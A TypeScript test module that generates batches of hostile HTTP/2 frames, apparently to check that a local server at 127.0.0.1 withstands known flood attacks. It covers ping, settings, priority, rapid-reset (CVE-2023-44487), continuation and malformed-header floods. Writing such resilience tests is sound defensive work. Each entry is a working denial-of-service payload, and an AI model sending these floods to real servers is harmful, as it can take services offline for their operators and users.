/** What hostile HTTP/2 clients send without end, by name (R58 names the incidents). Each gives one batch of frames. */
import { endHeaders, endStream, frame, frameTypes, requestBlock } from "./http2-frames.ts";

/** Gets the number of the batch. */
export type Flood = (batch: number) => Buffer;

/** `port`: where the server listens. */
export function floods(port: number): Readonly<Record<string, Flood>> {
  const request = requestBlock(`127.0.0.1:${port}`, "/healthz");
  const open = (stream: number) => frame(frameTypes.headers, endHeaders, stream, request);
  const whole = (stream: number) => frame(frameTypes.headers, endHeaders | endStream, stream, request);
  const u32 = (value: number) => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32BE(value);
    return bytes;
  };
  const many = (count: number, each: (index: number) => Buffer) =>
    Buffer.concat(Array.from({ length: count }, (_, i) => each(i)));
  return {
    "pings (CVE-2019-9512)": () => many(500, () => frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
    "settings (CVE-2019-9515)": () => many(500, () => frame(frameTypes.settings, 0, 0)),
    "window updates (CVE-2026-21714)": (batch) =>
      many(1_000, (index) => frame(frameTypes.windowUpdate, 0, 0, u32(batch % 50 === 0 && index === 0 ? 2 : 1))),
    "priorities (CVE-2019-9513)": () =>
      many(1_000, (index) => frame(frameTypes.priority, 0, 2 * index + 1, Buffer.from([0, 0, 0, 0, 7]))),
    "empty data (CVE-2019-9518)": (batch) =>
      Buffer.concat([batch === 0 ? open(1) : Buffer.alloc(0), many(1_000, () => frame(frameTypes.data, 0, 1))]),
    "resets (CVE-2023-44487)": (batch) =>
      many(100, (index) => {
        const stream = 2 * (batch * 100 + index) + 1;
        return Buffer.concat([open(stream), frame(frameTypes.reset, 0, stream, u32(8))]);
      }),
    "streams above the limit": (batch) => many(200, (index) => open(2 * (batch * 200 + index) + 1)),
    requests: (batch) => many(200, (index) => whole(2 * (batch * 200 + index) + 1)),
    "continuations (CVE-2024-27983)": (batch) =>
      Buffer.concat([
        batch === 0 ? frame(frameTypes.headers, 0, 1, request) : Buffer.alloc(0),
        many(20, () => frame(frameTypes.continuation, 0, 1, Buffer.alloc(1_000, 0))),
      ]),
    "empty continuations": (batch) =>
      Buffer.concat([
        batch === 0 ? frame(frameTypes.headers, 0, 1, request) : Buffer.alloc(0),
        many(1_000, () => frame(frameTypes.continuation, 0, 1)),
      ]),
    "headers of a megabyte": (batch) => {
      const long = requestBlock(`127.0.0.1:${port}`, "/healthz", "GET", [["x-filler", "y".repeat(15_000)]]);
      return many(20, (index) => frame(frameTypes.headers, endHeaders | endStream, 2 * (batch * 20 + index) + 1, long));
    },
    "malformed headers (CVE-2025-59465)": (batch) =>
      many(50, (index) =>
        frame(frameTypes.headers, endHeaders, 2 * (batch * 50 + index) + 1, Buffer.from([0x40, 0x0a, 0xff, 0xff])),
      ),
  };
}
